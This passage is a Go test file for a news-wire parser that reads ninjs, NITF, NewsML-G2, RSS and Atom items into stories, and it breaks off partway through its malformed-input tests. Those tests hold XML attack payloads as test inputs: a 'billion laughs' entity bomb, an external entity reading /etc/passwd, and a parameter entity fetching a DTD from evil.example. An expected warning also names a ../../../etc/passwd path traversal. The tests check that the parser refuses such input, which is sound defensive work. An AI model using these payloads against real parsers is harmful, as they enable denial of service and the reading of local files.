package wire

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/epaper/epaper/problem"

	"github.com/epaper/epaper/story"
)

// want is what an editor expects of one story read from a sample.
type want struct {
	format    Format
	id        string
	headline  string
	kicker    string
	deck      string
	byline    string
	dateline  string
	language  string
	priority  int
	published string // RFC 3339; "" means zero
	embargo   string
	version   int
	status    string
	subjects  []string
	genres    []string
	// blocks are the expected body blocks, in order: each is a kind and the
	// start of its text. nil means no body.
	blocks []blk
	images []img
}

type blk struct {
	kind  story.BlockKind
	start string
}

// img is an expected image: file is relative to testdata.
type img struct {
	url, file, caption, credit string
	w, h                       int
}

func p(s string) blk { return blk{story.Paragraph, s} }
func h(s string) blk { return blk{story.Crosshead, s} }
func q(s string) blk { return blk{story.Quote, s} }

func testdataDir(t testing.TB) string {
	t.Helper()
	d, err := filepath.Abs("testdata")
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// readSample reads a file of testdata as the gatherer would: the sources
// root is testdata, the directory is the file's.
func readSample(t testing.TB, rel string) (Result, error) {
	t.Helper()
	root := testdataDir(t)
	path := filepath.Join(root, filepath.FromSlash(rel))
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return Read(rel, data, Options{Root: root, Dir: filepath.Dir(path)})
}

func checkStory(t *testing.T, root string, s story.Story, w want) {
	t.Helper()
	eq := func(field, got, want string) {
		t.Helper()
		if got != want {
			t.Errorf("%s = %q, want %q", field, got, want)
		}
	}
	eq("headline", s.Headline, w.headline)
	eq("kicker", s.Kicker, w.kicker)
	eq("deck", s.Deck, w.deck)
	eq("byline", s.Byline, w.byline)
	eq("dateline", s.Dateline, w.dateline)
	eq("language", s.Language, w.language)
	eq("status", s.Status, w.status)
	if w.id != "" {
		eq("id", s.ID, w.id)
	}
	if s.Format != formatFamily(w.format) {
		t.Errorf("format = %q, want %q", s.Format, formatFamily(w.format))
	}
	wp := w.priority
	if wp == 0 {
		wp = story.PriorityDefault
	}
	if s.Priority != wp {
		t.Errorf("priority = %d, want %d", s.Priority, wp)
	}
	checkTime(t, "published", s.Published, w.published)
	checkTime(t, "embargo", s.Embargo, w.embargo)
	if s.Version != w.version {
		t.Errorf("version = %d, want %d", s.Version, w.version)
	}
	if strings.Join(s.Subjects, "|") != strings.Join(w.subjects, "|") {
		t.Errorf("subjects = %q, want %q", s.Subjects, w.subjects)
	}
	if strings.Join(s.Genres, "|") != strings.Join(w.genres, "|") {
		t.Errorf("genres = %q, want %q", s.Genres, w.genres)
	}
	if len(s.Body) != len(w.blocks) {
		t.Errorf("%d body blocks, want %d:\n%s", len(s.Body), len(w.blocks), dumpBlocks(s.Body))
	} else {
		for i, b := range s.Body {
			if b.Kind != w.blocks[i].kind || !strings.HasPrefix(b.Text(), w.blocks[i].start) {
				t.Errorf("block %d = %s %q, want %s starting %q", i, b.Kind, b.Text(), w.blocks[i].kind, w.blocks[i].start)
			}
		}
	}
	if len(s.Images) != len(w.images) {
		t.Errorf("%d images, want %d: %+v", len(s.Images), len(w.images), s.Images)
		return
	}
	for i, g := range s.Images {
		e := w.images[i]
		file := ""
		if e.file != "" {
			file = filepath.Join(root, filepath.FromSlash(e.file))
		}
		eq("image url", g.URL, e.url)
		eq("image file", g.File, file)
		if !strings.HasPrefix(g.Caption, e.caption) || (e.caption == "" && g.Caption != "") {
			t.Errorf("image %d caption = %q, want it to start %q", i, g.Caption, e.caption)
		}
		eq("image credit", g.Credit, e.credit)
		if g.Width != e.w || g.Height != e.h {
			t.Errorf("image %d size = %dx%d, want %dx%d", i, g.Width, g.Height, e.w, e.h)
		}
	}
}

func formatFamily(f Format) string {
	switch f {
	case NinJS1, NinJS2, NinJS3:
		return "ninjs"
	}
	return string(f)
}

func checkTime(t *testing.T, field string, got time.Time, want string) {
	t.Helper()
	if want == "" {
		if !got.IsZero() {
			t.Errorf("%s = %v, want none", field, got)
		}
		return
	}
	w, err := time.Parse(time.RFC3339, want)
	if err != nil {
		t.Fatal(err)
	}
	if !got.Equal(w) {
		t.Errorf("%s = %v, want %v", field, got, w)
	}
}

func dumpBlocks(bs []story.Block) string {
	var b strings.Builder
	for _, x := range bs {
		b.WriteString("  " + string(x.Kind) + ": " + x.Text() + "\n")
	}
	return b.String()
}

// The texts of the IPTC ninjs documentation examples, the same in 1.x, 2.x
// and 3.x.
var (
	concordiaBody = []blk{
		p("GROSSETO, Italy (AP) -- The trial of the captain"),
		p("The sole defendant, Francesco Schettino"),
		p("His lawyer, Domenico Pepe, told reporters"),
		p("Pepe said some 1,000 witnesses are expected"),
	}
	dellHeadline   = "Dell Redefines Workstation Computing Boundaries with Smallest Tower and Most Powerful Rack Workstations"
	dellImage      = img{url: "http://mms.businesswire.com/media/newsItemId/en/369394/3/0025lf.jpg"}
	concordiaPhoto = img{
		url:     "http://hosted.ap.org/photos/2/2643c588-dc8d-4923-bebd-e3b904edbb3a-big.jpg",
		caption: "The Costa Concordia cruise ship lies on its side in the waters of the Tuscan island of Giglio",
		credit:  "Paulo Santalucia", w: 429, h: 281,
	}
)

func ninjsSamples(f Format, ver string) map[string]want {
	return map[string]want{
		"iptc/ninjs/doc-" + ver + "-003_associations_example.json": {
			format: f, id: "www-businesswire-com-news-home-20130515006361-en",
			headline: dellHeadline, published: "2013-05-16T04:01:00Z", version: 1,
			blocks: []blk{p("[ ... ]")}, images: []img{dellImage},
		},
		"iptc/ninjs/doc-" + ver + "-004_simple_text_article.json": {
			format: f, id: "ninjs-example-com-newsitems-20130709simp123",
			headline: "Captain of wrecked cruise ship on trial in Italy",
			byline:   "Paulo Santalucia and Frances d'Emilio", published: "2013-07-09T10:37:00Z",
			blocks: concordiaBody,
		},
		"iptc/ninjs/doc-" + ver + "-005_complex_text_article.json": {
			format: f, id: "ninjs-example-com-newsitems-20130709med123",
			headline: "Captain of wrecked cruise ship on trial in Italy",
			byline:   "Paulo Santalucia and Frances d'Emilio", dateline: "Grossetto, Italy",
			language: "en", published: "2013-07-09T10:37:00Z", blocks: concordiaBody,
		},
		"iptc/ninjs/doc-" + ver + "-006_photo_only.json": {
			format: f, id: "ninjs-example-com-newsitems-20130709simpph123",
			headline: "Costa Concordia cruise ship", byline: "Paulo Santalucia",
			published: "2013-07-08T08:12:00Z", images: []img{concordiaPhoto},
		},
	}
}

func TestIPTCSamples(t *testing.T) {
	cases := map[string]want{
		"iptc/nitf/ntb_nitf_sample.from-newsinjson.xml": {
			format: NITF, id: "ntb5df9281a-a270-4dc5-a618-869bbc3bbca7-00",
			headline: "Pandemien herjer på den legeløse indiske landsbygda",
			byline:   "NTB-AFP-DPA", dateline: "Unnao", language: "nb-NO",
			published: "2021-05-16T09:00:04Z", version: 1,
			subjects: []string{"Sykdom", "Medisin og helse", "india-korona-bygd"},
			genres:   []string{"Nyheter"},
			blocks: []blk{
				p("Koronapandemien herjer også i landsbyer"), p("– Det er så mye fattigdom"),
				p("Han kaller situasjonen katastrofal."), p("– Noen kaster til og med"),
				h("- Det skjulte India"), p("Ingen leger har vært innom"), p("Hvis folk overhodet"),
				p("– Folk blir etterlatt for å dø."), p("Fredag meldte India"),
				h("Myndighetene patruljerer langs elvebredden"), p("De siste dagene har mer enn 100 lik"),
				p("Fredag uttalte myndighetene"), p("Innbyggerne mener det ikke finnes"),
				h("Ingen fagfolk"), p("– Det finnes ingen lege"), p("Han forteller at de unge"),
				p("Yadav mener lokalvalget"), h("Amatørleger uten utstyr"), p("I nabodelstaten Bihar"),
				p("Ifølge Khans slektning"), p("Derfor regner man med"), p("(©NTB)"),
			},
			images: []img{{file: "iptc/nitf/JsxLggxsoo4", caption: "Kremasjonsbål for koronaofre brenner i Indias hovedstad New Delhi."}},
		},
		"iptc/newsml-g2/LISTING_1_A_NewsML-G2_News_Item.xml": {
			format: NewsMLG2, id: "newsml-acmenews-com-20161018-us-finance-fed",
			headline: `Fed to halt QE to avert "bubble"`, byline: "Meredith Jameson",
			dateline: "Berlin", language: "en-GB", published: "2018-10-21T16:25:32-05:00",
			embargo: "2018-10-23T12:00:00Z", version: 11, status: "usable",
			subjects: []string{"economy, business and finance", "labour market"},
			genres:   []string{"Interview"},
		},
		"iptc/newsml-g2/LISTING_2_NewsML-G2_Text_Document.xml": {
			format: NewsMLG2, id: "newsml-acmenews-com-20161121-us-finance-fed",
			headline: `Fed to halt QE to avert "bubble"`, byline: "Meredith Jameson",
			dateline: "New York, NY", language: "en-US", published: "2018-11-21T16:25:32-05:00",
			version: 11, status: "usable",
			subjects: []string{"economy, business and finance", "central bank", "money and monetary policy"},
			blocks:   []blk{p("(New York, NY - October 21) Et, sent luptat luptat, commy Nim"), p("Ugiating ea feugait utat")},
		},
		"iptc/newsml-g2/LISTING_3_Photo_in_NewsML-G2.xml": {
			format: NewsMLG2, id: "gettyimages-com-2010-gyi0062134533",
			headline: "Variety Of Recessionary Forces Leave Las Vegas Economy Scarred",
			byline:   "Spencer Platt", language: "en-US", published: "2018-10-12T06:42:04Z", version: 11,
			subjects: []string{"gyimeid:104530187", "labour market", "unemployment", "Las Vegas Boulevard",
				"Las Vegas", "business", "economic", "economy", "finance", "poor", "poverty", "gamble"},
			images: []img{{file: "iptc/newsml-g2/GYI0062134533.jpg", caption: "A general view of part of downtown, including Las Vegas Boulevard",
				credit: "Getty Images", w: 1500, h: 1001}},
		},
		"iptc/newsml-g2/LISTING_6_Simple_NewsML-G2_Package.xml": {
			format: NewsMLG2, id: "example-com-2008-uk-news-topten-uk20081220098658",
			headline: "UK", published: "2018-11-17T12:30:00Z", version: 11, status: "usable",
			blocks: []blk{p("Obama annonce son équipe — Le rachat il y a deux ans"), p("Barack Obama arrive à Washington — Si nous avons")},
		},
	}
	for f, ver := range map[Format]string{NinJS1: "1.6", NinJS2: "2.2", NinJS3: "3.1"} {
		for k, v := range ninjsSamples(f, ver) {
			cases[k] = v
		}
	}
	root := testdataDir(t)
	for file, w := range cases {
		t.Run(file, func(t *testing.T) {
			data, err := os.ReadFile(filepath.Join(root, file))
			if err != nil {
				t.Fatal(err)
			}
			if got := Detect(data); got != w.format {
				t.Errorf("Detect = %q, want %q", got, w.format)
			}
			res, err := readSample(t, file)
			if err != nil {
				t.Fatal(err)
			}
			if len(res.Stories) != 1 {
				t.Fatalf("%d stories, want 1", len(res.Stories))
			}
			if len(res.Warnings) > 0 {
				t.Errorf("warnings: %v", res.Warnings)
			}
			s := res.Stories[0]
			if s.File != file {
				t.Errorf("file = %q, want %q", s.File, file)
			}
			checkStory(t, root, s, w)
		})
	}
}

// The package's picture item is in bold in the listing.
func TestPackageListingStyles(t *testing.T) {
	res, err := readSample(t, "iptc/newsml-g2/LISTING_6_Simple_NewsML-G2_Package.xml")
	if err != nil {
		t.Fatal(err)
	}
	b := res.Stories[0].Body[1]
	if len(b.Spans) != 2 || b.Spans[0].Style != story.Bold || b.Spans[0].Text != "Barack Obama arrive à Washington" {
		t.Errorf("spans = %+v", b.Spans)
	}
}

// A package reference that names nothing is warned about, not listed as an
// empty paragraph.
func TestPackageRefWithoutTarget(t *testing.T) {
	doc := `<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/"><itemSet>
<packageItem guid="urn:x:pkg" version="1"><contentMeta><headline>Results</headline></contentMeta>
<groupSet root="r"><group id="r">
<itemRef sidref="urn:x:1"/>
<itemRef residref="urn:x:2"><title>Second</title></itemRef>
<itemRef><description>Only a description</description></itemRef>
</group></groupSet></packageItem></itemSet></newsMessage>`
	res, err := Read("p.xml", []byte(doc), Options{})
	if err != nil {
		t.Fatal(err)
	}
	var body []string
	for _, b := range res.Stories[0].Body {
		body = append(body, b.Text())
	}
	if strings.Join(body, "|") != "Second|Only a description" {
		t.Errorf("body %q", body)
	}
	var msgs []string
	for _, w := range res.Warnings {
		msgs = append(msgs, fmt.Sprintf("%d %s", w.Line, w.Msg))
	}
	if len(msgs) != 3 || msgs[0] != "4 package urn:x:pkg has an itemRef without residref or href" {
		t.Errorf("warnings %q", msgs)
	}
}

func TestOwnSamples(t *testing.T) {
	type fileWant struct {
		format   Format
		stories  []want
		warnings []string // substrings, in order
	}
	cases := map[string]fileWant{
		"own/rss-national.xml": {format: RSS, warnings: []string{"item skipped: no headline"}, stories: []want{
			{
				format: RSS, id: "exw-20240702-0147",
				headline: "Monsoon covers entire country six days ahead of schedule: IMD",
				deck:     "The south-west monsoon reached the last remaining parts of Rajasthan on Tuesday, the weather office said.",
				byline:   "Staff Correspondent", language: "en-IN", published: "2024-07-02T19:42:10+05:30",
				subjects: []string{"National", "Weather"},
				blocks: []blk{
					p("New Delhi, July 2 (EXW) The south-west monsoon covered"),
					p("“The monsoon has advanced into the remaining parts of Haryana and Rajasthan,” an IMD bulletin said. Heavy rain"),
					h("Farmers relieved"), p("Sowing of kharif crops has picked up, with paddy planted on 43 lakh hectares so far — ahead"),
					p("• Rainfall so far: 8% above normal"), p("• Reservoir levels: 22% of capacity"),
				},
				images: []img{{url: "https://img.example.in/2024/07/02/monsoon-delhi.jpg",
					caption: "Commuters wade through a waterlogged street in New Delhi on Tuesday.", credit: "Photo: EXW", w: 2048, h: 1365}},
			},
			{
				format: RSS, id: "wire-example-in-business-sensex-closes-higher-2024-07-02",
				headline: "Sensex ends 300 points higher as IT stocks rally", byline: "Business Desk",
				language: "en-IN", published: "2024-07-02T16:05:00+05:30", subjects: []string{"Business"},
				blocks: []blk{p("Mumbai, July 2 (EXW) The BSE Sensex rose 300.25 points to close at 79,441 on Tuesday, led by gains in IT & banking shares."),
					p("The NSE Nifty gained 92 points.")},
				images: []img{{url: "https://img.example.in/2024/07/02/bse-large.jpg", caption: "The BSE building in Mumbai",
					credit: "File photo", w: 3000, h: 2000}},
			},
			{
				format: RSS, id: "wire-example-in-sport-chess-title-2024-07-02",
				headline: "Kerala man wins national chess title", language: "en-IN",
				published: "2024-07-02T21:15:00+05:30",
				blocks:    []blk{p("Kochi, July 2 (EXW) A 19-year-old"), p("He drew his final round game")},
				images:    []img{{url: "https://img.example.in/2024/07/02/chess.jpg"}},
			},
		}},
		"own/atom-city.xml": {format: Atom, stories: []want{
			{
				format: Atom, id: "city-example-in-2024-metro-phase-3-opens",
				headline: "Metro’s Phase 3 line opens to commuters",
				deck:     "The 11-km line links the airport with the city centre.",
				byline:   "Priya Raman", language: "en-IN", published: "2024-07-02T10:15:00+05:30",
				subjects: []string{"City", "transport"},
				blocks: []blk{p("Chennai: The first train on the Phase 3 line"), h("Fares"),
					p("Fares range from ₹10 to ₹50."), q("It will cut my commute by half an hour.")},
				images: []img{{url: "https://city.example.in/img/metro-first-train.jpg", caption: "The first train leaves Central station"}},
			},
			{
				format: Atom, id: "city-example-in-power-cuts-thursday",
				headline: "Power cuts in four zones on Thursday", byline: "City Desk", language: "en-IN",
				published: "2024-07-02T18:40:00+05:30", subjects: []string{"Civic"},
				blocks: []blk{p("Supply will be suspended from 9 a.m. to 2 p.m."), p("Areas affected: Adyar, Besant Nagar, Velachery & Guindy.")},
				images: []img{{url: "https://city.example.in/img/substation.jpg", caption: "A substation in Adyar.", credit: "City Desk", w: 1600, h: 1067}},
			},
			{
				format: Atom, id: "city-example-in-2024-library-hours",
				headline: "Library extends hours for exam season", byline: "City Desk", language: "en-IN",
				published: "2024-07-02T12:00:00Z",
				blocks:    []blk{p("The central library will stay open until 10 p.m. from Monday."), p("Students must carry an identity card.")},
			},
		}},
		"own/ninjs3-sport.json": {format: NinJS3, stories: []want{{
			format: NinJS3, id: "agency-example-in-2024-spo-cricket-0412",
			headline: "Karnataka crush Mumbai by an innings to reach Ranji final", kicker: "Cricket",
			deck: "Left-arm spinner takes 11 wickets in the match", byline: "Arjun Menon",
			dateline: "Bengaluru", language: "en-IN", priority: 1, version: 3, status: "usable",
			published: "2024-07-02T21:10:00+05:30", embargo: "2024-07-03T00:01:00+05:30",
			subjects: []string{"cricket", "http://cv.iptc.org/newscodes/mediatopic/15000000"},
			genres:   []string{"Match report"},
			blocks: []blk{p("Bengaluru, July 2: Karnataka beat Mumbai"), p("Mumbai, following on, were bowled out for 187 & lost"),
				h("Spin does it"), q("“The pitch had something for the spinners,” the captain said."),
				p("• Karnataka 512/8 decl."), p("• Mumbai 283 & 187"), p("Scores in brief above.")},
			images: []img{{url: "https://pix.example.in/0412-01-print.jpg", caption: "The spinner celebrates a wicket",
				credit: "Agency Photo", w: 3600, h: 2400}},
		}}},
		"own/ninjs2-city.json": {format: NinJS2, warnings: []string{`picture "../../../etc/passwd.jpg" is outside the sources folder`}, stories: []want{{
			format: NinJS2, id: "agency-example-in-city-2024-07-02-lake-cleanup",
			headline: "Volunteers clear 12 tonnes of plastic from Bellandur lake",
			deck:     "Residents' groups plan a monthly drive.", byline: "Meera Iyer", language: "en",
			priority: 5, version: 1, status: "usable", published: "2024-07-02T14:30:00+05:30",
			subjects: []string{"environment", "Bengaluru"}, genres: []string{"news"},
			blocks: []blk{p("BENGALURU, July 2 -- More than 400 volunteers"),
				p("The drive was organised by residents' welfare associations with the civic body. Trucks carried"),
				p("The next drive is planned for August 4.")},
			images: []img{{file: "own/photos/lake-high.jpg", caption: "Volunteers at Bellandur lake", w: 3000, h: 2000}},
		}}},
		"own/ninjs1-brief.json": {format: NinJS1, stories: []want{{
			format: NinJS1, id: "agency-example-in-brief-20240702-77",
			headline: `Two held for "fake" job racket`, byline: "EXW", status: "withheld",
			published: "2024-07-02T08:05:00Z", embargo: "2024-07-02T10:00:00Z",
			subjects: []string{"crime", "medtop:20000106"},
			blocks:   []blk{p("Hyderabad, July 2 (EXW) Police arrested two men"), p("They collected Rs 2 lakh each")},
		}}},
		"own/ninjs-batch.json": {format: NinJS2, warnings: []string{"item skipped: no headline"}, stories: []want{
			{format: NinJS2, id: "agency-example-in-batch-1", headline: "First item of the batch", blocks: []blk{p("One paragraph.")}},
			{format: NinJS2, id: "agency-example-in-batch-3", headline: "Third item of the batch", blocks: []blk{p("Para one."), p("Para two.")}},
		}},
		"own/nitf-business.xml": {format: NITF, stories: []want{{
			format: NITF, id: "exw-biz-2024-07-02-rbi-policy",
			headline: "RBI keeps repo rate at 6.5\u00a0per cent for ninth time",
			deck:     "Inflation forecast raised to 4.5 per cent",
			byline:   "Rohit Sharma, Business Correspondent", dateline: "Mumbai, July 2", language: "en-IN",
			priority: 1, version: 4, status: "usable",
			published: "2024-07-02T10:15:00+05:30", embargo: "2024-07-02T11:00:00+05:30",
			subjects: []string{"banking", "04018000", "monetary policy"}, genres: []string{"Current"},
			blocks: []blk{
				p("The Reserve Bank of India (RBI) on Tuesday kept the repo rate unchanged at 6.5\u00a0per cent, citing sticky food inflation."),
				p("The decision was taken by a 4–2 majority of the Monetary Policy Committee, Governor A. Kumar said."),
				p("Growth for 2024-25 is projected at 7.2% & inflation at 4.5%."),
				h("What changes for borrowers"),
				p("Home loan EMIs will stay the same. Fixed deposit rates may edge up."),
				q("Inflation is on a declining path"), q("— RBI Governor"),
				p("1. Repo rate: 6.5%"), p("2. Standing deposit facility: 6.25%"),
				p("The central bank said it would remain “focused on withdrawal of accommodation”."),
			},
			images: []img{{file: "own/photos/rbi-governor.jpg", caption: "The RBI Governor at the policy briefing in Mumbai.",
				credit: "EXW Photo", w: 2400, h: 1600}},
		}}},
		"own/newsml-message.xml": {format: NewsMLG2, warnings: []string{"conceptItem is not a news item", "refers to urn:wire.example.in:2024:NOT-IN-FILE"}, stories: []want{
			{
				format: NewsMLG2, id: "wire-example-in-2024-pol-0101",
				headline: "Front sweeps Kerala with 99 seats", kicker: "Kerala",
				deck: "Chief minister to be sworn in on Friday", byline: "Anil Kumar and Sara Thomas",
				dateline: "THIRUVANANTHAPURAM, July 2", language: "en-IN", priority: 1, version: 3,
				status: "usable", published: "2024-07-02T19:00:00+05:30",
				subjects: []string{"politics", "medtop:20000065"}, genres: []string{"genre:Current"},
				blocks: []blk{p("The ruling front won 99 of the 140 seats"), h("Opposition concedes"), p("The opposition leader conceded")},
				images: []img{{file: "own/pix/0101-high.jpg", caption: "Supporters celebrate outside the party office",
					credit: "EXW/Kavya Nair", w: 3200, h: 2133}},
			},
			{
				format: NewsMLG2, id: "wire-example-in-2024-pol-0102", headline: "Turnout highest in two decades",
				language: "en", version: 1, published: "2024-07-02T19:10:00+05:30",
				blocks: []blk{p("Turnout was 71.3\u00a0per cent.")},
				images: []img{{url: "https://pix.example.in/0102-web.jpg", caption: "Voters queue at a polling booth in Kollam",
					credit: "EXW Photo", w: 1024, h: 683}},
			},
			{
				format: NewsMLG2, id: "wire-example-in-2024-wld-0099", headline: "A stand-alone item no package refers to",
				language: "en", version: 2, priority: 4, status: "usable", published: "2024-07-02T17:00:00+05:30",
				blocks: []blk{p("First paragraph of the stand-alone item."), p("Second paragraph.")},
			},
		}},
		"own/newsml-item-xhtml.xml": {format: NewsMLG2, stories: []want{{
			format: NewsMLG2, id: "wire-example-in-2024-ent-0033",
			headline: "फ़िल्म महोत्सव में भारतीय सिनेमा की धूम",
			deck:     "महोत्सव में इस वर्ष 12 भारतीय फ़िल्में दिखाई जाएँगी।",
			byline:   "Neha Gupta, Rahul Verma", dateline: "Mumbai", language: "hi-IN", priority: 2,
			version: 5, status: "withheld", published: "2024-07-02T11:45:00+05:30", embargo: "2024-07-03T06:00:00+05:30",
			subjects: []string{"कला, संस्कृति और मनोरंजन", "फ़िल्म"},
			blocks:   []blk{p("मुंबई, 2 जुलाई। अंतरराष्ट्रीय फ़िल्म महोत्सव"), p("आयोजकों ने कहा")},
			images:   []img{{url: "https://pix.example.in/ent-0033.jpg"}},
		}}},
	}
	root := testdataDir(t)
	for file, fw := range cases {
		t.Run(file, func(t *testing.T) {
			data, err := os.ReadFile(filepath.Join(root, file))
			if err != nil {
				t.Fatal(err)
			}
			if got := Detect(data); got != fw.format {
				t.Errorf("Detect = %q, want %q", got, fw.format)
			}
			res, err := readSample(t, file)
			if err != nil {
				t.Fatal(err)
			}
			if len(res.Warnings) != len(fw.warnings) {
				t.Errorf("warnings %v, want %d", res.Warnings, len(fw.warnings))
			} else {
				for i, w := range res.Warnings {
					if !strings.Contains(w.Msg, fw.warnings[i]) || w.File != file || w.Line <= 0 {
						t.Errorf("warning %d = %v, want %q on a line of %s", i, w, fw.warnings[i], file)
					}
				}
			}
			if len(res.Stories) != len(fw.stories) {
				t.Fatalf("%d stories, want %d", len(res.Stories), len(fw.stories))
			}
			for i, w := range fw.stories {
				t.Run(w.id, func(t *testing.T) { checkStory(t, root, res.Stories[i], w) })
			}
		})
	}
}

// Styles survive: bold datelines, italics, NITF em class="bold".
func TestBodyStyles(t *testing.T) {
	res, err := readSample(t, "own/nitf-business.xml")
	if err != nil {
		t.Fatal(err)
	}
	b := res.Stories[0].Body
	want := [][]story.Span{
		{{Text: "The Reserve Bank of India (RBI) on Tuesday kept the repo rate unchanged at 6.5\u00a0per cent, citing "}, {Text: "sticky food inflation", Style: story.Italic}, {Text: "."}},
		{{Text: "The decision was taken by a 4–2 majority of the "}, {Text: "Monetary Policy Committee", Style: story.Bold}, {Text: ", Governor A. Kumar said."}},
	}
	for i, w := range want {
		if !equalSpans(b[i].Spans, w) {
			t.Errorf("block %d spans = %+v, want %+v", i, b[i].Spans, w)
		}
	}
	res, err = readSample(t, "own/rss-national.xml")
	if err != nil {
		t.Fatal(err)
	}
	got := res.Stories[0].Body[0].Spans
	if len(got) != 2 || got[0] != (story.Span{Text: "New Delhi, July 2 (EXW) ", Style: story.Bold}) {
		t.Errorf("dateline spans = %+v", got)
	}
}

func equalSpans(a, b []story.Span) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func TestHTMLBody(t *testing.T) {
	cases := []struct {
		name, in string
		want     []blk
	}{
		{"paragraphs", "<p>One</p><p>Two</p>", []blk{p("One"), p("Two")}},
		{"br in p is a space", "<p>One<br>two</p>", []blk{p("One two")}},
		{"double br outside p splits", "One<br><br>Two<br>still two", []blk{p("One"), p("Two still two")}},
		{"entities", "<p>Tom &amp; Jerry &mdash; &#8377;5 &quot;ok&quot;</p>", []blk{p(`Tom & Jerry — ₹5 "ok"`)}},
		{"white space", "<p>  lots   of\n\t space  </p>", []blk{p("lots of space")}},
		{"empty paragraphs dropped", "<p> </p><p>&nbsp;</p><p>x</p><p></p>", []blk{p("x")}},
		{"dropped elements", "<p>a<script>b()</script><style>p{}</style>c</p><iframe>d</iframe><object>e</object>", []blk{p("ac")}},
		{"headings", "<h1>A</h1><h4>B</h4><p>c</p>", []blk{h("A"), h("B"), p("c")}},
		{"quote", "<blockquote><p>q1</p><p>q2</p></blockquote><p>after</p>", []blk{q("q1"), q("q2"), p("after")}},
		{"lists", "<ul><li>a</li><li><b>b</b></li></ul><ol start=\"3\"><li>c</li></ol>", []blk{p("• a"), p("• b"), p("3. c")}},
		{"empty list item", "<ul><li> </li><li>x</li></ul>", []blk{p("• x")}},
		{"unknown tags unwrapped", "<div><span>a</span> <custom>b</custom></div>", []blk{p("a b")}},
		{"table rows", "<table><tr><th>Team</th><th>Pts</th></tr><tr><td>A</td><td>3</td></tr></table>", []blk{p("Team | Pts"), p("A | 3")}},
		{"text outside elements", "plain &amp; simple", []blk{p("plain & simple")}},
		{"direction marks dropped", "<p>a\u200eb\u200dc</p>", []blk{p("ab\u200dc")}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got, _ := htmlBlocks(c.in)
			if len(got) != len(c.want) {
				t.Fatalf("got\n%s", dumpBlocks(got))
			}
			for i, b := range got {
				if b.Kind != c.want[i].kind || b.Text() != c.want[i].start {
					t.Errorf("block %d = %s %q, want %s %q", i, b.Kind, b.Text(), c.want[i].kind, c.want[i].start)
				}
			}
		})
	}
}

func TestPlainBlocks(t *testing.T) {
	cases := []struct {
		in   string
		want []string
	}{
		{"one\n\ntwo\nstill two", []string{"one", "two still two"}},
		{"one\ntwo\r\nthree", []string{"one", "two", "three"}},
		{"  \n\n  ", nil},
		{"a\n \t\nb", []string{"a", "b"}},
	}
	for _, c := range cases {
		var got []string
		for _, b := range plainBlocks(c.in) {
			got = append(got, b.Text())
		}
		if strings.Join(got, "|") != strings.Join(c.want, "|") {
			t.Errorf("plainBlocks(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestMalformed(t *testing.T) {
	cases := []struct {
		name string
		in   string
		line int
		msg  string
	}{
		{"bad JSON", "{\n \"uri\": \"x\",\n \"headline\": \"a\",,\n}", 3, "JSON: invalid character"},
		{"truncated JSON", "{\n \"uri\": \"x\",\n \"headline\": \"a\"", 3, "ends before the value is complete"},
		{"trailing JSON", "{\"uri\": \"x\", \"headline\": \"a\"}\n{}", 2, "unexpected data after the top-level value"},
		{"headline is a number", "{\n \"uri\": \"x\",\n \"headline\": 42\n}", 3, "headline: expected a string, found a number"},
		{"headlines value is a number", "{\n \"uri\": \"x\",\n \"headlines\": [\n  {\"value\": 7}\n ]\n}", 4, "headlines[0].value: expected a string, found a number"},
		{"bodies is an object", "{\n \"uri\": \"x\",\n \"headlines\": [{\"value\": \"a\"}],\n \"bodies\": {\"value\": \"b\"}\n}", 4, "bodies: expected an array, found an object"},
		{"urgency is a string", "{\n \"uri\": \"x\",\n \"headline\": \"a\",\n \"urgency\": \"3\"\n}", 4, "urgency: expected a number, found a string"},
		{"rendition width is a string", "{\"uri\": \"x\", \"type\": \"picture\", \"headline\": \"a\",\n \"renditions\": {\"a\": {\"href\": \"x.jpg\",\n \"width\": \"big\"}}}", 3, "width: expected a number"},
		{"ninjs without headline", "{\n \"uri\": \"x\",\n \"type\": \"text\",\n \"body_text\": \"b\"\n}", 1, "no headline"},
		{"nested ninjs without headline", "\n\n  {\"uri\": \"x\", \"bodies\": [{\"value\": \"b\"}]}", 3, "no headline"},
		{"JSON that is not ninjs", "{\"name\": \"x\"}", 1, "not ninjs"},
		{"control character escaped in JSON", "{\n \"uri\": \"x\",\n \"headline\": \"a\\u0007b\"\n}", 3, "control character U+0007"},
		{"bad XML", "<?xml version=\"1.0\"?>\n<rss version=\"2.0\"><channel>\n<item><title>a</title></item>\n</channel>\n</rs>", 5, "XML: element <rss> closed by </rs>"},
		{"truncated XML", "<nitf>\n<body>\n<p>unclosed", 3, "XML: unexpected EOF"},
		{"undefined entity", "<nitf>\n<body><body.head><hedline><hl1>&bogus;</hl1></hedline></body.head></body></nitf>", 2, "XML: invalid character entity &bogus;"},
		{"billion laughs", "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n <!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n]>\n<rss><channel><item><title>&lol3;</title></item></channel></rss>", 2, "DOCTYPE declares entities"},
		{"external entity", "<?xml version=\"1.0\"?>\n\n<!DOCTYPE nitf [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> ]>\n<nitf><body><body.head><hedline><hl1>&xxe;</hl1></hedline></body.head></body></nitf>", 3, "DOCTYPE declares entities"},
		{"parameter entity", "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>\n<rss/>", 1, "DOCTYPE declares entities"},
		{"NITF without headline", "<nitf>\n<body>\n<body.content><p>x</p></body.content></body></nitf>", 1, "no headline"},
		{"NewsML without headline", "<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\" guid=\"g\">\n<contentMeta/>\n</newsItem>", 1, "no headline"},
		{"RSS with only untitled items", "<rss>\n<channel>\n<item><description>x</description></item>\n</channel></rss>", 3, "no headline"},
